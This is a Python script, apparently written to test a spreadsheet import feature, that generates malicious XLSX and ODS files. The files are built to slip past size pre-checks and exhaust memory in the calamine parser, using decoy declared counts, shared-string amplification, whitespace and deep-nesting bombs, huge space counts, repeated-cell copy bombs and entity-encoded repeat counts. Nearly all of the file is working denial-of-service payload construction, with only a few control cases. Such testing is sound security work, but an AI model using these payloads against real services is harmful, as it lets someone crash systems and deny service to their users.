import zipfile, sys, os
os.chdir('/tmp/atk2')
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL_WS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet'
REL_SST = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings'
CT = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'

def rels(target='xl/workbook.xml'):
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{target}"/></Relationships>'

def istr(ref, s):
    s = s.replace('&', '&amp;').replace('<', '&lt;')
    return f'<c r="{ref}" t="inlineStr"><is><t>{s}</t></is></c>'

HEADER = '<row r="1">' + istr('A1', 'Navn') + istr('B1', 'Telefon') + istr('C1', 'Xyzzy') + '</row>'
GOOD = '<row r="2">' + istr('A2', 'Amplify AS') + istr('B2', '91234567') + '</row>'

def sheet(rows):
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{rows}</sheetData></worksheet>'

def xlsx(path, sheets, sst=None, sst_name='xl/sharedStrings.xml', base='xl/', extra=(), stored=()):
    """sheets: list of (name, target_path_rel_to_base, xml or None if shared)"""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr('[Content_Types].xml', CT)
        z.writestr('_rels/.rels', rels(base + 'workbook.xml'))
        sh = ''.join(f'<sheet name="{n}" sheetId="{i+1}" r:id="rId{i+1}"/>' for i, (n, t, _) in enumerate(sheets))
        z.writestr(base + 'workbook.xml', f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} {RNS}><sheets>{sh}</sheets></workbook>')
        rl = ''.join(f'<Relationship Id="rId{i+1}" Type="{REL_WS}" Target="{t}"/>' for i, (n, t, _) in enumerate(sheets))
        if sst is not None:
            rl += f'<Relationship Id="rIdS" Type="{REL_SST}" Target="sharedStrings.xml"/>'
        z.writestr(base + '_rels/workbook.xml.rels', f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rl}</Relationships>')
        written = set()
        for n, t, xml in sheets:
            if xml is not None and t not in written:
                ct = zipfile.ZIP_STORED if t in stored else zipfile.ZIP_DEFLATED
                z.writestr(zipfile.ZipInfo(base + t), xml, compress_type=ct) if ct == zipfile.ZIP_STORED else z.writestr(base + t, xml)
                written.add(t)
        if sst is not None:
            z.writestr(sst_name, sst)
        for name, data in extra:
            z.writestr(name, data)
    print(path, os.path.getsize(path))

def sst_doc(body, attrs='count="1" uniqueCount="1"', pre=''):
    return f'<?xml version="1.0" encoding="UTF-8"?>{pre}<sst {NS} {attrs}>{body}</sst>'

one = sheet(HEADER + GOOD)
sst_x = '<si><t>x</t></si>'
which = sys.argv[1:] or ['all']
def want(k): return 'all' in which or k in which

# ---- shared-strings declared-size check bypasses (calamine reserves uniqueCount Strings) ----
if want('sst'):
    big = 'uniqueCount="4000000000"'
    xlsx('sst-comment-decoy.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)],
         sst=sst_doc(sst_x, 'count="1" ' + big, pre='<!-- uniqueCount="1" -->'))
    xlsx('sst-padded.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)],
         sst=sst_doc(sst_x, 'count="1" ' + big, pre='<!--' + ' ' * 5000 + '-->'))
    xlsx('sst-squote.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)],
         sst=sst_doc(sst_x, "count='1' uniqueCount='4000000000'"))
    xlsx('sst-case.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)],
         sst=sst_doc(sst_x, 'count="1" ' + big), sst_name='xl/SharedStrings.xml')
    # the workbook in another folder; a decoy xl/workbook.xml makes it "an xlsx"
    xlsx('sst-otherdir.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)],
         sst=sst_doc(sst_x, 'count="1" ' + big), sst_name='wb/sharedStrings.xml', base='wb/',
         extra=[('xl/workbook.xml', '<x/>')])
    # a sane sst with a small declared count (control: must be read fine)
    xlsx('sst-control.xlsx', [('Kunder', 'worksheets/sheet1.xml', sheet(HEADER + '<row r="2"><c r="A2" t="s"><v>0</v></c>' + istr('B2', '91234567') + '</row>'))],
         sst=sst_doc('<si><t>Kontroll AS</t></si>'))

# ---- shared-string amplification: one big string, many cells pointing at it ----
def amplify(path, mb, cells, col='C'):
    s = 'A' * (mb * 1024 * 1024)
    rows = HEADER + GOOD + ''.join(f'<row r="{r}"><c r="{col}{r}" t="s"><v>0</v></c></row>' for r in range(3, 3 + cells))
    xlsx(path, [('Kunder', 'worksheets/sheet1.xml', sheet(rows))], sst=sst_doc(f'<si><t>{s}</t></si>'))
if want('amp'):
    amplify('sst-amp-40MBx10.xlsx', 40, 10)
    amplify('sst-amp-40MBx50.xlsx', 40, 50)
    amplify('sst-amp-40MBx100.xlsx', 40, 100)
if want('ampkill'):
    amplify('sst-amp-200MBx1000.xlsx', 200, 1000)

# ---- many sheets pointing at one sheet part with a big inline string ----
if want('multi'):
    s = 'B' * (100 * 1024 * 1024)
    xml = sheet(HEADER + GOOD + '<row r="3">' + istr('C3', s) + '</row>')
    xlsx('multisheet-100MBx30.xlsx', [(f'S{i}', 'worksheets/sheet1.xml', xml) for i in range(30)])
    # many distinct sheets each just under the limits (honest): 40 sheets x 6,000 rows x 40 cols
if want('inline'):
    s = 'C' * (250 * 1024 * 1024)
    xlsx('inline-250MB.xlsx', [('Kunder', 'worksheets/sheet1.xml', sheet(HEADER + GOOD + '<row r="3">' + istr('C3', s) + '</row>'))])
if want('ws'):
    ws = ' ' * (250 * 1024 * 1024)
    xml = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}>{ws}<sheetData>{HEADER}{GOOD}</sheetData></worksheet>'
    xlsx('ws-250MB-deflated.xlsx', [('Kunder', 'worksheets/sheet1.xml', xml)])
    ws = ' ' * (30 * 1024 * 1024)
    xml = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}>{ws}<sheetData>{HEADER}{GOOD}</sheetData></worksheet>'
    xlsx('ws-30MB-stored.xlsx', [('Kunder', 'worksheets/sheet1.xml', xml)], stored=('worksheets/sheet1.xml',))
if want('emptyc'):
    n = 60_000_000  # 4 bytes each = 240 MB
    xml = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{HEADER}{GOOD}<row r="3">' + '<c/>' * n + f'</row></sheetData></worksheet>'
    xlsx('emptyc-60M.xlsx', [('Kunder', 'worksheets/sheet1.xml', xml)])
if want('rich'):
    d = 2_000_000
    body = '<si>' + '<r>' * d + '<t>Dyp AS</t>' + '</r>' * d + '</si>'
    xlsx('sst-deep-rich.xlsx', [('Kunder', 'worksheets/sheet1.xml', sheet(HEADER + '<row r="2"><c r="A2" t="s"><v>0</v></c>' + istr('B2', '91234567') + '</row>'))],
         sst=sst_doc(body))
if want('sstmany'):
    n = 50_000_000  # '<si/>' 5 bytes each = 250 MB
    xlsx('sst-50M-empty-si.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)], sst=sst_doc('<si/>' * n, 'count="1" uniqueCount="1"'))
    n = 15_000_000  # '<si><t>a</t></si>' 16 bytes each = 240 MB
    xlsx('sst-15M-strings.xlsx', [('Kunder', 'worksheets/sheet1.xml', one)], sst=sst_doc('<si><t>a</t></si>' * n, 'count="1" uniqueCount="1"'))

# ---------------- ODS ----------------
ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"')
MANI = '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'

def scell(s):
    return f'<table:table-cell office:value-type="string"><text:p>{s}</text:p></table:table-cell>'
ODS_HEAD = '<table:table-row>' + scell('Navn') + scell('Telefon') + scell('Xyzzy') + '</table:table-row>'
ODS_GOOD = '<table:table-row>' + scell('Ods AS') + scell('91234567') + '</table:table-row>'

def ods(path, rows, tables=None):
    tables = tables or [('Kunder', rows)]
    body = ''.join(f'<table:table table:name="{n}">{r}</table:table>' for n, r in tables)
    content = f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NS}><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>'
    with zipfile.ZipFile(path, 'w') as z:
        z.writestr(zipfile.ZipInfo('mimetype'), 'application/vnd.oasis.opendocument.spreadsheet', compress_type=zipfile.ZIP_STORED)
        z.writestr('META-INF/manifest.xml', MANI, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr('content.xml', content, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    print(path, os.path.getsize(path))

if want('ods'):
    ods('ods-control.ods', ODS_HEAD + ODS_GOOD)
    # text:s with a huge count: one cell's text is a GB of spaces between two letters
    def texts(c, k=1):
        return '<table:table-row>' + scell('Spaces AS') + scell('91234568') + '<table:table-cell office:value-type="string"><text:p>a' + f'<text:s text:c="{c}"/>' * k + 'b</text:p></table:table-cell></table:table-row>'
    ods('ods-texts-1G.ods', ODS_HEAD + ODS_GOOD + texts(1_000_000_000))
    ods('ods-texts-2Gx3.ods', ODS_HEAD + ODS_GOOD + texts(2_000_000_000, 3))
    # a valued string cell repeated: each repeat a copy of its text (within 1,024 columns and 10M cells)
    s = 'D' * 10_000
    rep = f'<table:table-row table:number-rows-repeated="200"><table:table-cell office:value-type="string" office:string-value="{s}" table:number-columns-repeated="1000"/></table:table-row>'
    ods('ods-valrep-10KBx200k.ods', ODS_HEAD + ODS_GOOD + rep)  # 2 GB of copies
    s = 'E' * 1_000_000
    rep = f'<table:table-row table:number-rows-repeated="1000"><table:table-cell office:value-type="string" office:string-value="{s}" table:number-columns-repeated="1000"/></table:table-row>'
    ods('ods-valrep-1MBx1M.ods', ODS_HEAD + ODS_GOOD + rep)  # 1 TB of copies
    # values without office:value-type: the pre-count sees empty cells, calamine reads numbers
    rep = '<table:table-row table:number-rows-repeated="20000"><table:table-cell office:value="1" table:number-columns-repeated="1000"/></table:table-row>'
    ods('ods-novt-20M.ods', ODS_HEAD + ODS_GOOD + rep)
    rep = '<table:table-row table:number-rows-repeated="99000"><table:table-cell office:value="1" table:number-columns-repeated="1000"/></table:table-row>'
    ods('ods-novt-99M.ods', ODS_HEAD + ODS_GOOD + rep)
    # rows repeated with an entity-encoded count: calamine decodes it, the pre-count reads 1
    rep = '<table:table-row table:number-rows-repeated="&#50;0000"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="1000"/></table:table-row>'
    ods('ods-entity-20M.ods', ODS_HEAD + ODS_GOOD + rep)
    # control: same with a plain count must be refused by the pre-count
    rep = '<table:table-row table:number-rows-repeated="20000"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="1000"/></table:table-row>'
    ods('ods-plain-20M.ods', ODS_HEAD + ODS_GOOD + rep)
    # many tables each just under the rows limit with a small value
    t = ODS_HEAD + '<table:table-row table:number-rows-repeated="199990">' + scell('X AS') + scell('91234567') + '</table:table-row>'
    ods('ods-25tables.ods', None, tables=[(f'T{i}', t) for i in range(25)])
